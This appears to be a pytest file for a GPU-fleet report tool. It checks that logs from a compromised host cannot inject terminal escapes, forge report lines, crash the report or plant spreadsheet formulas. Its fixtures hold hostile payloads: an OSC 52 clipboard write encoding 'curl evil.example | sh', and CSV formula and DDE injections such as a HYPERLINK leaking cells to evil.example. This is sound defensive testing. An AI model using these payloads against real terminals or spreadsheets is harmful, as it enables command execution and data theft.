"""`invoke report` against logs a broken or compromised host left: crafted log folders (real files,
real matplotlib, a real pseudo-terminal). One host's logs can neither drive the reader's terminal,
nor crash the fleet report, nor plant formulas in merged.csv."""
from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from remote.output.term import Terminal
from remote.report import build_report, run_report
from remote.report.plot import MAX_LEGEND_HOSTS, MAX_MODEL_LABELS, latency_figure
from tests.test_report_common import REPO, printed, recording_terminal, results_json, seed_log, write_run

A100 = "NVIDIA A100-SXM4-40GB"
BASE = {"alexnet": 1.20, "resnet18": 2.10, "resnet50": 5.00}
# What a hostile host writes into names and messages: clear the screen and home the cursor,
# an OSC 52 clipboard write, a cursor move up that erases the line, a CSI in its C1 form, and a
# newline followed by the line an operator hopes to read.
CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OVERWRITE = "\x1b[1A\x1b[2K"
C1_CSI = "\x9b2J"
FORGED = "\nFLAGS: none (no slow host, no regression)"
SGR = re.compile(r"\x1b\[[0-9;]*m")


def hostile_fleet(tmp_path: Path) -> Path:
    """Three A100 peers, one of them slow (so there is a real flag to hide), the slow one's
    logs full of terminal control sequences."""
    logs = tmp_path / "logs"
    write_run(logs, "gpu-a", "r1", seed_log(BASE), results_json(A100))
    write_run(logs, "gpu-b", "r1", seed_log({m: v * 1.01 for m, v in BASE.items()}), results_json(A100))
    results = json.loads(results_json(A100))
    results["checks"].append({"name": "cudnn" + CLIPBOARD, "status": "fail", "required": True,
                              "reason": OVERWRITE + "all good" + FORGED, "figures": {}})
    results["host"]["gpu_name"] = A100  # same group, so it is compared (and flagged)
    results["host"]["driver"] = CLEAR + "550"
    slow = {m: v * 1.4 for m, v in BASE.items()}
    log = seed_log(slow) + f"#resnet{C1_CSI}{CLEAR};2.0\n"
    write_run(logs, "gpu-c" + CLEAR, "r1", log, json.dumps(results))
    return logs


def assert_only_printable(text: str) -> None:
    without_colours = SGR.sub("", text)
    controls = sorted({hex(ord(ch)) for ch in without_colours
                       if (ord(ch) < 32 and ch != "\n") or 0x7f <= ord(ch) <= 0x9f})
    assert controls == [], f"control characters reached the output: {controls}"
    assert not any(line.startswith("FLAGS: none") for line in without_colours.splitlines())


def test_control_sequences_in_logs_never_reach_the_terminal_or_report_txt(tmp_path):
    logs = hostile_fleet(tmp_path)
    terminal = recording_terminal()
    assert run_report(logs, tmp_path / "out", terminal=terminal) == 0
    text = printed(terminal)
    assert_only_printable(text)
    assert_only_printable((tmp_path / "out" / "report.txt").read_text())
    # what was sent is shown, made harmless: the reader sees there was something there
    assert "SLOW HOST gpu-c?[2J?[H" in text
    assert "FAILED cudnn?]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==?" in text
    assert "==?: ?[1A?[2Kall good?FLAGS: none" in text  # the newline too: no forged line
    assert "resnet?2J?[2J?[H" in text  # the C1 CSI and the model name's own escapes


def _report_on_a_pty(logs: Path, out: Path) -> str:
    """run_report with its default terminal (stdout's own) being a real pseudo-terminal."""
    controller, device = pty.openpty()
    chunks: list[bytes] = []

    def drain() -> None:
        while True:
            try:
                data = os.read(controller, 65536)
            except OSError:  # EIO: the device side is closed and everything was read
                return
            if not data:
                return
            chunks.append(data)

    reader = threading.Thread(target=drain)
    reader.start()
    try:
        with open(device, "w", encoding="utf-8", closefd=True) as stream:
            assert run_report(logs, out, terminal=Terminal(stream)) == 0
    finally:
        reader.join(timeout=60)
        os.close(controller)
    return b"".join(chunks).decode("utf-8", errors="replace")


def test_colours_on_a_terminal_only_and_never_under_no_color(tmp_path, monkeypatch):
    logs = hostile_fleet(tmp_path)
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    shown = _report_on_a_pty(logs, tmp_path / "out1")
    assert "\x1b[1;31mFLAGS (1)\x1b[0m" in shown  # a terminal gets colours...
    assert_only_printable(shown.replace("\r\n", "\n"))  # ...and nothing else from the logs
    monkeypatch.setenv("NO_COLOR", "1")  # https://no-color.org/
    assert "\x1b" not in _report_on_a_pty(logs, tmp_path / "out2")
    monkeypatch.delenv("NO_COLOR")
    piped = Terminal(io.StringIO())  # not a terminal: plain text
    assert run_report(logs, tmp_path / "out3", terminal=piped) == 0
    assert "\x1b" not in printed(piped) and "FLAGS (1)" in printed(piped)


def test_one_hosts_bad_results_json_is_reported_and_the_fleet_still_is(tmp_path):
    logs = tmp_path / "logs"
    write_run(logs, "gpu-a", "r1", seed_log(BASE), results_json(A100))
    write_run(logs, "gpu-b", "r1", seed_log({m: v * 1.3 for m, v in BASE.items()}), results_json(A100))
    write_run(logs, "gpu-c", "r1", seed_log(BASE), results_json(A100))
    write_run(logs, "deep", "r1", results="[" * 100_000)
    write_run(logs, "checks-int", "r1", results=json.dumps({"schema": 1, "ok": True, "checks": 5}))
    write_run(logs, "checks-mixed", "r1", results=json.dumps({"schema": 1, "checks": [{}, 3]}))
    write_run(logs, "host-list", "r1", results=json.dumps({"schema": 1, "checks": [], "host": [1]}))
    write_run(logs, "no-checks", "r1", results=json.dumps({"schema": 1, "checks": [], "ok": True}))
    rc, text = _run(logs, tmp_path)
    assert rc == 0
    problems = text.split("SKIPPED / BAD LOGS", 1)[1]
    assert "deep/r1/results.json: not valid JSON (nested more than 64 deep): skipped" in problems
    assert "checks-int/r1/results.json: 'checks' is not a list of objects: skipped" in problems
    assert "checks-mixed/r1/results.json: 'checks' is not a list of objects: skipped" in problems
    assert "host-list/r1/results.json: 'host' is not an object (a list): skipped" in problems
    assert "no-checks/r1/results.json: no checks ran: not a pass" in problems
    assert "SLOW HOST gpu-b" in text  # the rest of the fleet is reported
    # zero checks is not a pass, whatever "ok" says
    health = {h.host: h for h in build_report(logs).health}
    assert health["no-checks"].ok is None and health["gpu-a"].ok is True
    row = next(line for line in text.split("Health", 1)[1].splitlines() if line.startswith("no-checks "))
    assert " ok " not in row and " ? " in row


def _run(logs: Path, tmp_path: Path) -> tuple[int, str]:
    terminal = recording_terminal()
    rc = run_report(logs, tmp_path / "out", terminal=terminal)
    return rc, printed(terminal)


def _strict_json(path: Path) -> dict:
    def refuse(name: str) -> None:
        raise AssertionError(f"{path.name} holds {name}: not JSON (RFC 8259)")
    return json.loads(path.read_text(), parse_constant=refuse)


def test_mathtext_names_and_absurd_timings_are_drawn_or_skipped_never_fatal(tmp_path):
    logs = tmp_path / "logs"
    odd = r"$\undefinedcmd$"
    write_run(logs, "gpu-a", "r1", seed_log({**BASE, odd: 3.0}), results_json(A100))
    write_run(logs, "gpu-a", "r2", seed_log({**BASE, odd: 4.5}), results_json(A100))
    write_run(logs, "gpu-b", "r1", seed_log({**BASE, odd: 3.1}) + "#tiny;5e-324\n#huge;1e308\n")
    spec = json.loads(results_json(A100, {"resnet18": 2.0}))
    spec["checks"].append({"name": "bandwidth", "status": "pass", "required": False, "reason": "",
                           "figures": {"d2d_gbs": 1e308, "spec": {"d2d_gbs": 1e-308}}})
    spec["checks"][1]["figures"]["models"]["vast"] = {"latency_ms": {"median": 1e308}}
    write_run(logs, "gpu-c", "r1", results=json.dumps(spec))
    rc, text = _run(logs, tmp_path)
    assert rc == 0
    assert "gpu-b/r1/bench_torch.log:" in text and "latency 5e-324 ms is outside" in text
    assert "latency 1e+308 ms is outside" in text
    assert "gpu-c/r1/results.json: bench vast: latency 1e+308 ms is outside" in text
    assert f"REGRESSION gpu-a {odd}: 3.00 -> 4.50 ms (+50.0%)" in text
    out = tmp_path / "out"
    flags = _strict_json(out / "flags.json")
    assert flags["flagged"] is True
    for png in ("latency.png", "regressions.png"):
        assert (out / png).stat().st_size > 10_000


def test_csv_cells_from_logs_are_never_formulas(tmp_path):
    logs = tmp_path / "logs"
    hostile = ["=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+1+cmd|'-C_calc'!A0", "@SUM(A1)",
               "-2+3"]
    write_run(logs, "=cmd|' -C calc'!A0", "r1", seed_log({**BASE, **{m: 1.0 for m in hostile}}))
    write_run(logs, "gpu-a", "r1", seed_log(BASE))
    rc, _text = _run(logs, tmp_path)
    assert rc == 0
    with open(tmp_path / "out" / "merged.csv", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert rows[0] == ["model", "'=cmd|' -C calc'!A0/r1", "gpu-a/r1"]
    names = [row[0] for row in rows[1:]]
    for name in hostile:  # OWASP: a leading quote makes the cell text
        assert "'" + name in names
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    missing = {row[0]: row[2] for row in rows[1:]}["'@SUM(A1)"]
    assert missing == "-"  # the missing-value marker is the report's own, left as it is


@pytest.mark.parametrize("count", [MAX_MODEL_LABELS, 20_000])
def test_many_models_get_numbered_ticks_not_a_label_each(tmp_path, count):
    logs = tmp_path / "logs"
    for host, factor in (("gpu-a", 1.0), ("gpu-b", 1.1)):
        write_run(logs, host, "r1", "".join(f"#model{i:05d};{factor * (1 + i % 7)}\n"
                                            for i in range(count)))
    ax = latency_figure(build_report(logs)).axes[0]
    labels = [t.get_text() for t in ax.get_xticklabels()]
    if count <= MAX_MODEL_LABELS:
        assert labels == [f"model{i:05d}" for i in range(count)]
    else:
        assert len(ax.get_xticks()) < 20 and not any(label.startswith("model") for label in labels)
        assert "model number" in ax.get_xlabel()


# The report run in a child, so that its peak memory (VmHWM) is its own and not pytest's.
_MEASURED = """
import sys
from pathlib import Path
from remote.report import build_report
report = build_report(Path(sys.argv[1]))
print("\\n".join(str(p) for p in report.problems))
print("hosts", sorted({r.host for r in report.runs}))
peak = next(line for line in open("/proc/self/status") if line.startswith("VmHWM:"))
print("VmHWM", int(peak.split()[1]) // 1024)
"""
PEAK_MIB = 200  # this process reading a few small logs; the 1 GiB file alone would be 2 GiB


def test_huge_sparse_and_special_files_are_refused_unread(tmp_path):
    logs = tmp_path / "logs"
    write_run(logs, "gpu-a", "r1", seed_log(BASE), results_json(A100))
    huge = write_run(logs, "huge", "r1") / "results.json"
    with open(huge, "wb") as f:  # 1 GiB that takes no disk: a sparse file, as a tar can make
        f.truncate(1 << 30)
    huge_log = write_run(logs, "huge-log", "r1") / "bench_torch.log"
    huge_log.write_text("#m;1.0\n" * (3 << 20))  # 21 MiB of valid lines
    os.mkfifo(write_run(logs, "fifo", "r1") / "results.json")  # would block a plain read
    proc = subprocess.run([sys.executable, "-c", _MEASURED, str(logs)], capture_output=True,
                          text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert f"{huge}: larger than 16 MiB: skipped" in out
    assert f"{huge_log}: larger than 16 MiB: skipped" in out
    assert "fifo/r1/results.json: unreadable (not a regular file): skipped" in out
    assert "hosts ['gpu-a']" in out
    peak = int(out.split("VmHWM", 1)[1])
    print(f"report over a 1 GiB sparse results.json: VmHWM {peak} MiB")
    assert peak < PEAK_MIB


def test_a_hosts_unreadable_stack_or_results_is_its_problem_and_every_output_is_written(tmp_path):
    """100 KB of "[" in one host's stack.json (RecursionError) or a lone surrogate in its
    results.json (UnicodeEncodeError writing report.html) ended the report for every host:
    neither report.html nor the Prometheus file was written. Now each is that host's problem,
    named, and the rest of the fleet is reported as before."""
    from tests.test_report_drift import manifest

    logs = tmp_path / "logs"
    for host, factor in (("gpu-a", 1.0), ("gpu-b", 1.01), ("gpu-c", 1.4)):
        scaled = {m: v * factor for m, v in BASE.items()}
        d = write_run(logs, host, "r1", seed_log(scaled), results_json(A100, scaled))
        (d / "stack.json").write_text(json.dumps(manifest()))
    deep = write_run(logs, "deep", "r1", seed_log(BASE), results_json(A100))
    (deep / "stack.json").write_text("[" * 100_000)
    results = json.loads(results_json(A100))
    results["checks"][0]["name"] = "nccl\udc80"
    odd = write_run(logs, "odd", "r1", seed_log(BASE), json.dumps(results))
    (odd / "stack.json").write_text(json.dumps(manifest(kernel="6.1\udc80")))
    terminal = recording_terminal()
    prom = tmp_path / "fleet.prom"
    assert run_report(logs, tmp_path / "out", terminal=terminal, prometheus_path=prom) == 0
    text = printed(terminal)
    bad = [f"{deep}/stack.json: stack manifest skipped: not JSON: nested too deeply",
           f"{odd}/stack.json: stack manifest skipped: kernel is not a short line of text",
           f"{odd}/results.json: lone surrogate escapes (like \\udc80: no text) shown as U+FFFD"]
    page = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    for line in bad:
        assert line in text.split("SKIPPED / BAD LOGS", 1)[1] and line in page
    assert "SLOW HOST gpu-c" in text and "SLOW HOST gpu-c" in page
    assert "odd    r1   ok" in text  # its results are read, the odd name shown as U+FFFD
    metrics = prom.read_text(encoding="utf-8")
    assert 'gpuprov_check_passed{check="nccl\ufffd",host="odd"} 1.0' in metrics
    assert 'gpuprov_validation_ok{host="gpu-a",run="r1"} 1.0' in metrics


def test_a_fleet_too_wide_for_the_terminal_says_where_its_table_is(tmp_path):
    # 30 hosts x 2 runs at 80 columns: 20 parts of table; the terminal names the files instead,
    # and report.txt (120 columns) keeps every column.
    logs = tmp_path / "logs"
    for h in range(30):
        for run in ("r1", "r2"):
            write_run(logs, f"gpu{h:02d}", run, "#resnet50;5.0\n#alexnet;1.2\n")
    term = recording_terminal(width=80)
    assert run_report(logs, tmp_path / "out", terminal=term) == 0
    text = printed(term)
    assert "60 columns x 2 models" in text and "whole table is in report.txt, merged.csv" in text
    assert "part 1 of" not in text
    whole = (tmp_path / "out" / "report.txt").read_text()
    assert all(f"gpu{h:02d}" in whole.split("Batch-1 latency", 1)[1] for h in range(30))
    # a small fleet still gets its table on the terminal
    small = recording_terminal(width=80)
    two = tmp_path / "two"
    for h in ("gpu-a", "gpu-b"):
        write_run(two, h, "r1", "#resnet50;5.0\n")
    assert run_report(two, tmp_path / "out2", terminal=small) == 0
    assert "Batch-1 latency, ms" in printed(small) and "whole table" not in printed(small)


@pytest.mark.parametrize("hosts", [MAX_LEGEND_HOSTS, 100])
def test_a_large_fleet_legend_names_the_slow_hosts_and_counts_the_rest(tmp_path, hosts):
    logs = tmp_path / "logs"
    for h in range(hosts):
        slow = h == 3
        write_run(logs, f"gpu{h:03d}", "r1", f"#resnet50;{8.0 if slow else 5.0}\n#alexnet;{2.0 if slow else 1.2}\n")
    labels = latency_figure(build_report(logs)).axes[0].get_legend_handles_labels()[1]
    assert sum("gpu003: SLOW" in label for label in labels) == 1
    if hosts <= MAX_LEGEND_HOSTS:
        assert len(labels) == hosts
    else:
        assert len(labels) == 2 and "99 hosts within their peers" in labels


def test_the_legend_counts_hosts_not_series_when_runs_have_several_heads(tmp_path):
    # 15 hosts whose runs each print two heads (two series a host): 30 series, 15 hosts. Up to
    # MAX_LEGEND_HOSTS hosts every series keeps its entry; 25 such hosts are counted as 24
    # hosts (not 48 series) within their peers.
    def make(hosts: int) -> list[str]:
        logs = tmp_path / f"logs{hosts}"
        for h in range(hosts):
            slow = h == 3
            log = "".join(seed_log({"resnet50": 8.0 if slow else 5.0}, label) for label in ("PyTorch", "TRT"))
            write_run(logs, f"gpu{h:03d}", "r1", log)
        return latency_figure(build_report(logs)).axes[0].get_legend_handles_labels()[1]

    assert len(make(15)) == 30
    labels = make(25)
    assert "24 hosts within their peers" in labels, labels
